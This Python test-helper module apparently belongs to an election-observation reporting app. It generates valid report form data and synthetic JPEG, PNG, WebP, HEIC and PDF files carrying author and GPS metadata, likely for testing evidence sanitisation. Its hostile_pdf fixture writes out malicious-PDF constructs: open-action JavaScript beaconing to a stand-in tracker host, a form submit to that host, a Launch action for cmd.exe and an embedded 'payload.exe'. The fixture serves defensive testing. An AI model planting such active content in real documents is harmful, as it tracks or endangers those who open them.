"""Helpers for the report-filing and evidence tests: valid form data and files carrying metadata,
all generated here (no binary fixtures in the repository)."""

from __future__ import annotations

import io
from datetime import date

from PIL import Image, PngImagePlugin
from sqlalchemy import func, select

from observer.extensions import db
from observer.models import Attachment, Criterion, District, Region, Report, Stage

SECRET = "Ivan Secret-Author"
GPS = {1: "N", 2: (53.0, 54.0, 12.5), 3: "E", 4: (27.0, 33.0, 47.1)}  # GPSInfo IFD


def criterion(code: str) -> Criterion:
    return db.session.execute(select(Criterion).where(Criterion.code == code)).scalar_one()


def region(iso: str) -> Region:
    return db.session.execute(select(Region).where(Region.iso_code == iso)).scalar_one()


def district_of(iso: str, index: int = 0) -> District:
    return region(iso).districts[index]


def form_data(**overrides) -> dict:
    """A complete, valid report form (as a browser would post it)."""
    crit = criterion(overrides.pop("criterion_code", "EV-01"))
    stage = db.session.get(Stage, crit.stage_id)
    dist = district_of("BY-HM", 2)
    data = {
        "stage": str(stage.id),
        "criterion": str(crit.id),
        "occurred_on": "2024-02-21",
        "occurred_at": "10:30",
        "region": str(dist.region_id),
        "district": str(dist.id),
        "settlement": "Minsk",
        "polling_station": "512",
        "constituency": "101",
        "title": "Students taken to vote early by bus",
        "narrative": "At 10:30 two buses brought about 60 students of the technical college to "
        "the polling station; a deputy director checked their names against a list.",
        "actors": "Deputy director of the college; precinct commission chair",
        "people_affected": "60",
        "source_type": "direct_observation",
        "severity": "3",
        "scope": "repeated",
        "save_draft": "Save as draft",
    }
    data.update(overrides)
    return {k: v for k, v in data.items() if v is not None}


def count_reports() -> int:
    return db.session.execute(select(func.count(Report.id))).scalar_one()


def count_attachments() -> int:
    return db.session.execute(select(func.count(Attachment.id))).scalar_one()


def only_report() -> Report:
    return db.session.execute(select(Report)).scalar_one()


# --- files with metadata ------------------------------------------------------------------


def _exif(orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "SecretPhoneMaker"  # Make
    exif[0x0110] = "Model-SN-0042"  # Model
    exif[0x013B] = SECRET  # Artist
    exif[0x8825] = GPS  # GPSInfo
    if orientation:
        exif[0x0112] = orientation
    return exif


XMP = (
    b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
    b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    b'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>' + SECRET.encode() + b"</dc:creator>"
    b'</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
)


def jpeg_with_metadata(size=(64, 32), orientation: int | None = None) -> bytes:
    """A JPEG with EXIF (GPS, camera, artist), XMP and a COM comment naming the author."""
    image = Image.new("RGB", size, (200, 30, 30))
    image.paste((20, 20, 220), (0, 0, size[0] // 2, size[1]))  # left half blue
    out = io.BytesIO()
    image.save(
        out,
        format="JPEG",
        exif=_exif(orientation).tobytes(),
        xmp=XMP,
        comment=("Taken by " + SECRET).encode(),
    )
    return out.getvalue()


def png_with_text() -> bytes:
    """A PNG with tEXt, zTXt and iTXt chunks and an eXIf chunk."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", SECRET)
    info.add_text("Comment", "GPS 53.9 27.5 " + SECRET, zip=True)
    info.add_itxt("Description", "Снята " + SECRET, lang="ru", tkey="Описание")
    info.add_itxt("XML:com.adobe.xmp", XMP.decode())
    image = Image.new("RGBA", (20, 10), (0, 128, 0, 200))
    out = io.BytesIO()
    image.save(out, format="PNG", pnginfo=info, exif=_exif().tobytes())
    return out.getvalue()


def webp_with_metadata() -> bytes:
    image = Image.new("RGB", (30, 12), (10, 10, 10))
    out = io.BytesIO()
    image.save(out, format="WEBP", exif=_exif().tobytes(), xmp=XMP)
    return out.getvalue()


def heic_with_metadata(orientation: int = 6) -> bytes:
    import pillow_heif

    pillow_heif.register_heif_opener()
    image = Image.new("RGB", (40, 20), (200, 10, 10))
    out = io.BytesIO()
    image.save(out, format="HEIF", exif=_exif(orientation).tobytes(), xmp=XMP)
    return out.getvalue()


def pdf_with_metadata(encrypt: bool = False) -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import NameObject, StreamObject

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_metadata({"/Author": SECRET, "/Creator": "SecretScanner", "/Title": "Protocol"})
    xmp = StreamObject()
    xmp.set_data(XMP)
    xmp[NameObject("/Type")] = NameObject("/Metadata")
    xmp[NameObject("/Subtype")] = NameObject("/XML")
    writer._root_object[NameObject("/Metadata")] = writer._add_object(xmp)
    if encrypt:
        writer.encrypt("open-sesame")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def upload(data: bytes, name: str):
    return (io.BytesIO(data), name)


DEFAULT_DATE = date(2024, 2, 21)


TRACKER = "https://tracker.example/seen"


def hostile_pdf() -> bytes:
    """A PDF that acts when opened: an open action and document JavaScript, an embedded file,
    a page action, a link to a tracking address, a file attachment annotation, a launch action
    on a widget. Its visible text is a sentence the cleaned file must still show."""
    from pypdf import PdfWriter
    from pypdf.generic import (
        ArrayObject,
        DecodedStreamObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        TextStringObject,
    )

    def action(kind: str, **values) -> DictionaryObject:
        entries = {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)}
        entries.update({NameObject(f"/{k}"): TextStringObject(v) for k, v in values.items()})
        return DictionaryObject(entries)

    def rect(*values) -> ArrayObject:
        return ArrayObject([FloatObject(v) for v in values])

    writer = PdfWriter()
    page = writer.add_blank_page(300, 200)
    content = DecodedStreamObject()
    content.set_data(b"BT /F1 14 Tf 20 100 Td (Protocol of the count) Tj ET")
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})}
    )
    page[NameObject("/Contents")] = writer._add_object(content)
    page[NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): action("/JavaScript", JS="app.launchURL('" + TRACKER + "')")}
    )
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): rect(10, 10, 290, 190),
            NameObject("/A"): action("/URI", URI=TRACKER),
        }
    )
    attachment = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FileAttachment"),
            NameObject("/Rect"): rect(0, 0, 10, 10),
            NameObject("/FS"): TextStringObject("payload.exe"),
        }
    )
    widget = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/Rect"): rect(0, 180, 20, 200),
            NameObject("/A"): action("/Launch", F="cmd.exe"),
            NameObject("/AA"): DictionaryObject(
                {NameObject("/E"): action("/JavaScript", JS="this.submitForm('" + TRACKER + "')")}
            ),
        }
    )
    page[NameObject("/Annots")] = ArrayObject(
        [writer._add_object(a) for a in (link, attachment, widget)]
    )
    writer.add_attachment("payload.exe", b"MZ pretend executable")
    document_script = action("/JavaScript", JS="app.alert('opened');")
    writer._root_object["/Names"][NameObject("/JavaScript")] = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [TextStringObject("doc"), writer._add_object(document_script)]
            )
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
        action("/JavaScript", JS="app.launchURL('" + TRACKER + "')")
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
